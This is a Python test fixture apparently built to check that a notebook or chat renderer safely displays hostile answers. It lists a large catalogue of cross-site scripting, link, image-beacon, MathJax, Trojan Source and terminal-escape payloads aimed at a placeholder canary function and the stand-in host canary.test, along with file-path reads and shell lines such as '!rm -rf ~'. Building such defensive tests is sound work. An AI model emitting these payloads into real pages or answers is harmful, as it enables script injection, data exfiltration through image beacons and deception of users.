"""Answers that try to run, fetch, navigate, open a file, hang the tab or break out of their place.

``__canary(0)`` stands for code that must not run, ``canary.test`` for an address that must not be asked for by
itself. The tricks are public ones: those of cross-site scripting collections, of the issue trackers of Markdown
parsers, sanitisers, MathJax and JupyterLab, and of "Trojan Source".
"""

from __future__ import annotations

from dataclasses import dataclass

from .baits import BAITS


@dataclass(frozen=True)
class Hostile:
    """A hostile answer, and what it tries in a few words."""

    name: str
    text: str


RUN = "__canary(0)"
HOST = "canary.test"
IMG = f"<img src=x onerror={RUN}>"

_TAGS = {
    "script": f"<script>{RUN}</script>",
    "script with an address": f"<script src=//{HOST}/a.js></script>",
    "script that is cut": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script with odd spaces": f"<script\t\n/x>{RUN}</script\n>",
    "script as a module": f'<script type="module">import "http://{HOST}/m.js"</script>',
    "image with a handler": IMG,
    "image with a handler, slashes": f"<img/src=x/onerror={RUN}>",
    "image with a handler, quotes": f'<img src="x" onerror="{RUN}">',
    "image in capitals": f"<IMG SRC=x OnErRoR={RUN}>",
    "image unclosed": f"<img src=x onerror={RUN} ",
    "image, remote": f"<img src=http://{HOST}/i.png>",
    "image, source set": f'<img srcset="http://{HOST}/i.png 1x">',
    "picture": f'<picture><source srcset="http://{HOST}/p.png"><img></picture>',
    "svg with a handler": f"<svg onload={RUN}>",
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "svg with a foreign object": f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>",
    "svg use": f'<svg><use href="http://{HOST}/s.svg#x"/></svg>',
    "svg image": f'<svg><image href="http://{HOST}/s.png"/></svg>',
    "iframe with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe with code": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "iframe, remote": f"<iframe src=http://{HOST}/></iframe>",
    "object": f'<object data="http://{HOST}/o"></object>',
    "embed": f'<embed src="http://{HOST}/e">',
    "video": f"<video src=http://{HOST}/v poster=http://{HOST}/p autoplay></video>",
    "video with a handler": f"<video><source onerror={RUN}></video>",
    "audio": f"<audio src=http://{HOST}/a autoplay onerror={RUN}></audio>",
    "track": f"<video><track default src=http://{HOST}/t></video>",
    "details that open": f"<details open ontoggle={RUN}>x</details>",
    "field that takes the focus": f"<input autofocus onfocus={RUN}>",
    "select that takes the focus": f"<select autofocus onfocus={RUN}>",
    "text area that takes the focus": f"<textarea autofocus onfocus={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "body": f"<body onload={RUN}>",
    "style with an import": f'<style>@import "http://{HOST}/c.css";</style>',
    "style with an address": f"<style>body{{background:url(http://{HOST}/b)}}</style>",
    "style attribute": f'<p style="background:url(http://{HOST}/b)">x</p>',
    "style over the page": '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Sign in</div>',
    "link to a style sheet": f"<link rel=stylesheet href=http://{HOST}/c.css>",
    "link to fetch ahead": f"<link rel=prefetch href=http://{HOST}/p>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=http://{HOST}/">',
    "base": f"<base href=http://{HOST}/>[x](y)",
    "form": f'<form action="http://{HOST}/f"><input name=q><button>Continue</button></form>',
    "form that sends itself": f'<form id=f action=http://{HOST}/></form><img src=x onerror="f.submit()">',
    "button with a command": '<button data-commandlinker-command="notebook:run-all-cells">Run</button>',
    "link with a command": '<a data-commandlinker-command="filebrowser:delete">x</a>',
    "custom element": f"<x-y onclick={RUN} autofocus tabindex=1 onfocus={RUN}>x</x-y>",
    "comment that never ends": f"<!-- {IMG}",
    "comment that ends oddly": f"<!--> {IMG} -->",
    "processing instruction": f"<?xml {IMG} ?>",
    "declaration": f"<!X {IMG}>",
    "character data": f"<![CDATA[ {IMG} ]]>",
    "noscript": f'<noscript><p title="</noscript>{IMG}">',
    "template": f"<template>{IMG}</template>",
    "raw text elements": f"<xmp><p title='</xmp>{IMG}'></xmp><plaintext>{IMG}",
    "title element": f"<title><style></title>{IMG}</style>",
    "math that mutates": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
    "math and style": f"<math><mi><style></math>{IMG}</style></mi></math>",
    "math link": f'<math href="javascript:{RUN}">x</math>',
    "table that mutates": f"<table><tr><td><svg><desc><td>{IMG}",
    "closing what is not open": f"</div></div></div></pre></code>{IMG}",
    "a class of the page": '<div class="jp-OutputPrompt notebook-chat">Out[1]:</div>',
    "ids of the page": '<div id="jp-main-dock-panel"><a name="location">x</a></div>',
    "import map": f'<script type="importmap">{{"imports":{{"x":"http://{HOST}/x"}}}}</script>',
    "null in a tag": f"<im\x00g src=x onerror={RUN}>",
    "full-width brackets": f"＜script＞{RUN}＜/script＞",
}

_PLACES = {
    "in a heading": f"# {IMG}",
    "in a heading that is underlined": f"{IMG}\n===",
    "in a list": f"- {IMG}\n  1. {IMG}",
    "in a task": f"- [ ] {IMG}",
    "in a quotation": f"> {IMG}",
    "in a table": f"| {IMG} | b |\n|---|---|\n| {IMG} | `{IMG}` |",
    "in a table's delimiter row": f"| a | b |\n|---|{IMG}|\n| c | d |",
    "in emphasis": f"*{IMG}* **{IMG}** ~~{IMG}~~",
    "in a footnote": f"x[^1]\n\n[^1]: {IMG}",
    "in a footnote's label": f"x[^<b>{RUN}]\n\n[^<b>{RUN}]: y",
    "in code": f"`{IMG}` ``{IMG}``",
    "after code that does not end": f"``` {IMG}\n`{IMG}",
    "in indented code": f"    {IMG}",
    "in the label of a link": f"[{IMG}](http://{HOST}/)",
    "in the label of an image": f"![{IMG}](http://{HOST}/)",
    "in a definition's title": f"[a]\n\n[a]: http://{HOST}/ '{IMG}'",
    "across lines": f"<img\nsrc=x\nonerror={RUN}\n>",
    "after a backslash": f"\\{IMG}",
    "as references": f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "as references twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
}

_SHOWN_TAGS = {
    "a handler": f"<sub onclick={RUN}>a</sub> <kbd onmouseover={RUN}>b</kbd> <br onclick={RUN}>",
    "a handler after a slash": f"<sub/onclick={RUN}>a</sub> <b/autofocus/tabindex=1/onfocus={RUN}>b</b>",
    "a handler in the end": f"<sub>a</sub onclick={RUN}> <b>c</b/onfocus={RUN}>",
    "a handler on a line of its own": f"<mark\nautofocus tabindex=1\nonfocus={RUN}\n>a</mark>",
    "a handler behind an end": f"<sub>a</sub><b onclick={RUN} <sub>b</sub>",
    "a style": f"<mark style='position:fixed;inset:0;background:url(http://{HOST}/b)'>Sign in</mark>",
    "a class": '<kbd class="jp-Cell notebook-chat">a</kbd> <small id="main">b</small>',
    "an address": f"<ins cite=http://{HOST}/c>a</ins> <del cite=http://{HOST}/d>b</del>",
    "a name that goes on": f"<subx>a</subx> <b-x onclick={RUN}>b</b-x> <ins:x>c</ins:x> <br-x>",
    "a null in the name": f"<su\x00b>{RUN}</su\x00b> <\x00sub>a</sub>",
    "an image inside": f"<sub>{IMG}</sub> <kbd><svg onload={RUN}></kbd>",
    "a script inside": f"<mark><script>{RUN}</script></mark> <b><style>@import '//{HOST}'</style></b>",
    "a link inside": f"<kbd>[x](javascript:{RUN})</kbd> <u><javascript:{RUN}></u> <b>![i](http://{HOST}/i)</b>",
    "a link around": f"[<b>{IMG}</b>](javascript:{RUN}) ![<sub>{IMG}](http://{HOST}/i)</sub>",
    "crossed": f"<b><i>{IMG}</b></i> **<u>**{IMG}</u> *<sub>a*</sub> `<b>`</b>",
    "ends of what is around": f"<sub></p></div></td></table>{IMG}</sub>",
    "deep": "<sup>" * 300 + "x" + "</sup>" * 300,
    "deep, of many kinds": "<sub><sup><small><b><i><u>" * 50 + "x" + "</u></i></b></small></sup></sub>" * 50,
    "without an end": "<small>" * 200 + f"<mark>{IMG}",
    "in a table": f"| <b>{IMG} | b</b> |\n|---|---|\n| <sub>c</sub>{IMG} | <br{IMG}> |",
    "in code": f"`<b>{IMG}</b>` <b>`{IMG}</b>`",
    "as references": f"&lt;sub&gt;{IMG}&lt;/sub&gt; <sub>&lt;script&gt;{RUN}&lt;/script&gt;</sub>",
    "in a formula": f"$<sub>{IMG}</sub>$ <sub>$x$ {IMG}</sub> $\\text{{<sub onclick={RUN}>}}$",
    "many breaks": "a" + "<br>" * 500 + IMG,
    "between Chinese marks": f"**（{IMG}）**的<b>**（</b>）**{IMG} ~~「<sub>{IMG}」~~</sub>",
}

_LINKS = {
    "javascript": f"[x](javascript:{RUN})",
    "javascript in capitals": f"[x](JaVaScRiPt:{RUN})",
    "javascript with a tab": f"[x](java\tscript:{RUN})",
    "javascript with a reference": f"[x](javascript&colon;{RUN}) [y](&#106;avascript:{RUN})",
    "javascript, percent-encoded": f"[x](javascript%3A{RUN}) [y](%6Aavascript:{RUN})",
    "javascript in angle brackets": f"[x](<javascript:{RUN}>)",
    "javascript with a control character": f"[x](\x01javascript:{RUN})",
    "javascript with a line end": f"[x](<java\nscript:{RUN}>)",
    "javascript after a space": f"[x]( javascript:{RUN} )",
    "javascript as an autolink": f"<javascript:{RUN}>",
    "javascript as a reference": f"[x][y]\n\n[y]: javascript:{RUN}",
    "javascript in an image": f"![x](javascript:{RUN})",
    "javascript that looks like http": f"[x](javascript://http://example.org/%0A{RUN})",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data": f"[x](data:text/html,<script>{RUN}</script>)",
    "data in base64": "[x](data:text/html;base64,PHNjcmlwdD5fX2NhbmFyeSgwKTwvc2NyaXB0Pg==)",
    "file": "[x](file:///etc/passwd) <file:///etc/passwd>",
    "blob and filesystem": "[x](blob:http://localhost/1) [y](filesystem:http://localhost/1)",
    "a file of the server": "[x](/api/contents/secret.txt) [y](../secret.txt) [z](notes.txt)",
    "a command of the server": "[x](/lab/api/shutdown) [y](?reset) [z](#)",
    "without a scheme": f"[x](//{HOST}/) [y](\\\\{HOST}\\) [z](/\\{HOST}/)",
    "a scheme of the system": "[x](ms-word:ofe|u|http://a/b) [y](vscode://file/etc/passwd) [z](tel:1) [w](sms:1)",
    "quotes in the address": f'[x](http://{HOST}/"onmouseover={RUN}//) [y](<http://{HOST}/" onclick="{RUN}>)',
    "quotes in the title": f'[x](http://{HOST}/ \'" onmouseover={RUN} x="\') [y](http://{HOST}/ "\' onclick={RUN}")',
    "another address in the label": f"[https://bank.example](http://{HOST}/)",
    "a name before the host": f"<https://bank.example@{HOST}/>",
    "an autolink with a tag": f'<http://{HOST}/"><script>{RUN}</script>>',
    "a bare address with a tag": f"http://{HOST}/<script>{RUN}</script>",
    "a bare address with quotes": f'http://{HOST}/"onmouseover="{RUN}',
    "mail with a header": f"[x](mailto:a@{HOST}?bcc=b@{HOST}&body={IMG})",
    "an address that cannot be parsed": "[x](http://[::1) [y](http://%zz/) [z](https://:80/) [w](http://)",
}

_IMAGES = {
    "remote": f"![x](http://{HOST}/a.png)",
    "remote, encrypted": f"![x](https://{HOST}/a.png)",
    "without a scheme": f"![x](//{HOST}/a.png)",
    "in angle brackets": f"![x](<http://{HOST}/a b.png>)",
    "with a title": f"![x](http://{HOST}/a.png 'title')",
    "by reference": f"![x][y] ![y][] ![y]\n\n[y]: http://{HOST}/a.png",
    "in a link": f"[![x](http://{HOST}/a.png)](http://{HOST}/)",
    "in a link without an end": f"[![x](http://{HOST}/a.png)](http://{HOST}/",
    "in an image": f"![a ![b](http://{HOST}/b.png)](http://{HOST}/a.png)",
    "in a table": f"| ![x](http://{HOST}/a.png) |\n|---|",
    "after an escaped sign": f"\\![x](http://{HOST}/a.png) wow\\![y](http://{HOST}/b.png)",
    "data": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "data, svg": f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
    "attachment": "![x](attachment:image.png) ![y](notes.png)",
    "beacon with what was said": f"![x](http://{HOST}/?q=the-secret-from-the-conversation)",
    "handler through maths": f'![$" onerror="{RUN}" x="$](x)',
    "handler through maths and a title": f"![a](x '$\" onerror={RUN} \"$')",
}

_FENCES = {
    "tag in the info string": f"```{IMG}\nx\n```",
    "quotes in the info string": f'```python" onmouseover="{RUN}" x="\nx\n```',
    "class of the page in the info string": "```jp-OutputArea notebook-chat\nx\n```",
    "references in the info string": f"```&quot;&gt;{IMG.replace('<', '&lt;')}\nx\n```",
    "mermaid": f"```mermaid\ngraph TD;\nA[\"<img src='http://{HOST}/m.png'>\"] --> B\n```",
    "mermaid with a click": f'```mermaid\ngraph TD; A-->B\nclick A "javascript:{RUN}"\n```',
    "maths": f"```math\n\\mmlToken{{mglyph}}[src=http://{HOST}/x]{{}}\n```",
    "html": f"```html\n<script>{RUN}</script>\n{IMG}\n```",
    "unclosed": f"```html\n{IMG}\n",
    "closed by less": f"````\n```\n{IMG}\n````\n{IMG}",
    "closed lazily in a quotation": f"> ```\n> x\n{IMG}",
    "closed lazily in a list": f"- ```\n  x\n{IMG}",
    "opened in maths": f"$\n```\n$ {IMG}\n```",
    "closed in maths": f"```\n$\n```\n{IMG}\n```\n$\n```",
    "tildes and backticks": f"~~~\n```\n~~~\n{IMG}",
    "indented too far": f"    ```\n{IMG}\n    ```",
    "lexer with HTML of its own": f"```html+php\n<?php echo '{IMG}' ?>\n```",
    "lexer by its module": "```../../../etc/passwd\nx\n```\n```python.os.system\nx\n```",
    "control characters": "```bash\n\x1b]0;title\x07\x1b[2J rm -rf / \x08\x08\n```",
    "overrides of direction": "```python\nif access != 'user\u202e \u2066# admin\u2069 \u2066':\n    pass\n```",
}

_MATHS = {
    "tag between dollars": f"${IMG}$",
    "tag between double dollars": f"$$\n{IMG}\n$$",
    "tag between brackets": f"\\({IMG}\\) \\[{IMG}\\]",
    "tag between double backslashes": f"\\\\({IMG}\\\\) \\\\[{IMG}\\\\]",
    "tag in an environment": f"\\begin{{align}}{IMG}\\end{{align}}",
    "tag in an unknown environment": f"\\begin{{x}}{IMG}\\end{{x}}",
    "tag in text": f"$\\text{{{IMG}}}$ $\\mbox{{<script>{RUN}</script>}}$",
    "tag as characters": f"$\\unicode{{x3c}}img src=x onerror={RUN}\\unicode{{x3e}}$",
    "tag as references": f"$\\text{{&#x3c;img src=x onerror={RUN}&#x3e;}}$",
    "tag in an operator's name": f"$\\operatorname{{<img src=x onerror={RUN}>}}$",
    "tag in text, escaped": f"$\\text{{\\<img src=x onerror={RUN}\\>}}$ $\\mbox{{\\&lt;script\\&gt;{RUN}}}$",
    "tag in text, closing what is around": f"$\\text{{</mtext></annotation></semantics></math>{IMG}}}$",
    "tag in text in text": f"$\\text{{a \\textbf{{b $\\text{{{IMG}}}$ c}} \\{{{IMG}\\}}}}$",
    "tag as a symbol": f"$\\text{{\\lt img src=x onerror={RUN}\\gt}}$ $\\tag{{\\<script\\>{RUN}}}$",
    "quotes for the attribute": f'$x" onmouseover="{RUN}$ $y\' autofocus onfocus=\'{RUN}$ $z">{IMG}$',
    "quotes for the attribute, as references": f"$x&quot; onmouseover=&quot;{RUN}$ $y&#34;&#62;{IMG}$",
    "tag under a stroke": f"$\\cancel{{{IMG}}}$ $\\cancelto{{{IMG}}}{{{IMG}}}$ $\\xcancel{{\\text{{{IMG}}}}}$",
    "notation of its own": f'$\\enclose{{box" onclick="{RUN}}}{{x}}$ $\\cancelto{{{{$ $\\cancelto\\cancelto{{a}}$',
    "link in text in a formula": f"$\\text{{see \\href{{javascript:{RUN}}}{{x}}}}$ \\[\\text{{$\\url{{//{HOST}}}$}}\\]",
    "strokes in strokes": "$"
    + "\\xcancel{" * 40
    + "x"
    + "}" * 40
    + "$ $"
    + "\\boxed{" * 22
    + "x"
    + "}" * 22
    + "$",
    "link": f"$\\href{{javascript:{RUN}}}{{click}}$",
    "link with its own tag": f"$$\\href{{http://{HOST}/}}{{x}}$$ $\\url{{javascript:{RUN}}}$",
    "glyph": f"$\\mmlToken{{mglyph}}[src=http://{HOST}/g.png]{{}}$",
    "glyph without a delimiter": f"\\mmlToken{{mglyph}}[src=http://{HOST}/g.png]{{}}",
    "glyph in an environment": f"\\begin{{equation}}\\mmlToken{{mglyph}}[src=http://{HOST}/g]{{}}\\end{{equation}}",
    "glyph in code": f"`$\\mmlToken{{mglyph}}[src=http://{HOST}/g]{{}}$`",
    "glyph in escapes": f"\\$\\mmlToken{{mglyph}}[src=http://{HOST}/g]{{}}\\$",
    "glyph as references": f"&#36;&#92;mmlToken{{mglyph}}[src=http://{HOST}/g]{{}}&#36;",
    "glyph in text": f"$\\text{{$\\mmlToken{{mglyph}}[src=http://{HOST}/g]{{}}$}}$",
    "glyph in two blocks": f"$\\mmlToken{{mglyph}}\n\n[src=http://{HOST}/g]{{}}$",
    "glyph in a heading": f"# $\\mmlToken{{mglyph}}[src=http://{HOST}/g]{{}}$",
    "style": f"$\\style{{background:url(http://{HOST}/s)}}{{x}}$ $\\class{{jp-Cell}}{{x}}$ $\\cssId{{main}}{{x}}$",
    "an extension": "$\\require{html}$ $\\require{../../x}$",
    "an image": f"$\\includegraphics{{http://{HOST}/i.png}}$",
    "a file": "$\\input{/etc/passwd}$ $\\verbatiminput{/etc/passwd}$",
    "a macro without an end": "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b}\\b$",
    "a macro for the next formula": f"$\\def\\x{{\\href{{javascript:{RUN}}}}}$ $\\x{{y}}$",
    "dollars around a code span": f"$`{IMG}`$ `$` {IMG} `$`",
    "dollars around a link": f"$[x](javascript:{RUN})$ [$](javascript:{RUN}) $",
    "dollars over a list": f"- $\n- {IMG}\n- $",
    "placeholders of the front end": f"@@0@@ $x$ @@1@@ {IMG} @@0@@",
    "over the page": "$\\rule{1000em}{1000em}$ $\\hspace{-99em}\\raise{50em}{x}$ $\\kern-500em x$",
    "colours to hide in": "$\\color{white}{secret}$ $\\colorbox{black}{x}$",
    "huge": "$\\Huge{\\Huge{\\Huge{x}}}$ $\\begin{array}{" + "c" * 500 + "}x\\end{array}$",
    "deep": "$" + "{" * 500 + "x" + "}" * 500 + "$ $" + "\\sqrt{" * 60 + "x" + "}" * 60 + "$",
    "an equation's label": "$$x \\label{main}$$ $\\ref{main}$ \\eqref{main}",
}

_CHARACTERS = {
    "override of direction": "user\u202egnp.exe and \u2067back\u2069",
    "override as a reference": "user&#x202e;gnp.exe &#8238; &rlm;",
    "override in a link": f"[https://example.org/\u202etset.yranac](http://{HOST}/)",
    "override in a formula": "$a\u202eb$ $\\unicode{x202e}$ $\\text{\u2066x}$",
    "override in a table": "| a\u202e | b |\n|---|---|\n| \u202dc | d |",
    "nulls": f"a\x00b <\x00script>{RUN}</script>",
    "terminal sequences": "\x1b[31mred\x1b[0m \x1b]8;;http://canary.test\x07link\x1b]8;;\x07",
    "line ends of Python": f"# a\x0b{IMG}\x0c{IMG}\x1c{IMG}\x85{IMG}\u2028{IMG}\u2029{IMG}",
    "lone carriage returns": f"`a\r{IMG}\r` $x\r{IMG}\r$",
    "lone surrogates": "\ud800 \udc00 `\udfff` $\ud835$",
    "byte order marks": f"\ufeff# a\n\ufeff{IMG}",
    "tags of Unicode": "a\U000e0041\U000e0042 b",
    "stacked marks": "Z" + "\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 30,
    "interlinear annotation": "\ufff9a\ufffab\ufffb",
    "words that look alike": "[раypal.com](http://xn--ypal-43d9g.example/)",
    "private use and non-characters": "\ue000 \ufffe \uffff \U0010ffff",
}

_WHOLE = {
    "a file's name": "notes.txt",
    "a file's path": "/etc/passwd",
    "a file's name in the home": "~/.ssh/id_rsa",
    "an address": f"http://{HOST}/answer.md",
    "an address of a file": "file:///etc/passwd",
    "an image's address": f"http://{HOST}/a.png",
    "a notebook's name": "Untitled.ipynb",
    "a MIME bundle": '{"text/html": "' + IMG.replace('"', '\\"') + '"}',
    "a magic": "%%javascript\n__canary(0)",
    "a shell's line": "!rm -rf ~",
    "a widget's view": '<script type="application/vnd.jupyter.widget-view+json">{"model_id":"x"}</script>',
    "JavaScript": "require(['base/js/namespace'], () => __canary(0))",
    "CSS": f"@import url(http://{HOST}/c.css); * {{ display: none }}",
    "braces of a template": "{{ config }} {% raw %} ${__canary(0)} #{7*7} <%= 7*7 %>",
    "front matter": f"---\ntitle: <script>{RUN}</script>\n---\n\nx",
    "the end of a container": f"</div></body></html>{IMG}",
    "the end of a script": f"</script></style></title></textarea>{IMG}",
    "the end of a code span that never began": f"` ``` ~~~ $ $$ \\) \\] --> ]]> {IMG}",
}

_FAMILIES = {
    "tag": _TAGS,
    "place": _PLACES,
    "shown tag": _SHOWN_TAGS,
    "link": _LINKS,
    "image": _IMAGES,
    "fence": _FENCES,
    "maths": _MATHS,
    "character": _CHARACTERS,
    "answer": _WHOLE,
}

HOSTILE: list[Hostile] = [
    Hostile(f"{family}: {name}", text)
    for family, answers in _FAMILIES.items()
    for name, text in answers.items()
]
"""Answers of a few lines: to be shown whole, and at every moment on their way."""

BAITED: list[Hostile] = [Hostile(f"bait: {name}", (bait * 1500)[:1500]) for name, bait in BAITS]
"""Answers of 1,500 characters that try to keep the kernel or the tab busy."""
